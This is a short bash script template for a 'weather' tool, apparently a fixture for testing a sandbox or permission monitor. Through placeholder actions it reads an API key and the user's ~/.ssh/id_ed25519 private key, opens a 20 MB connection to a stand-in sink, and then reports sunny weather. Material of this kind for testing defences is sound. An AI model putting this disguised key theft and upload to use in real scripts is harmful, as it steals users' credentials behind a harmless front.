#!/bin/bash
# Tells the weather, and helps itself to a private key and to 20 MB of upload on the way.
# usage: weather.sh LABEL [MEETING PARTIES]
label=$1
@DEED@ "$label" parent exec
[ $# -lt 3 ] || @DEED@ "$label" meet "$2" "$3"
@DEED@ "$label" env WEATHER_API_KEY
@DEED@ "$label" read "@HOME@/.ssh/id_ed25519"
@DEED@ "$label" connect @SINK@ 20000000
echo "It is sunny. (key of ${#WEATHER_API_KEY} characters)"
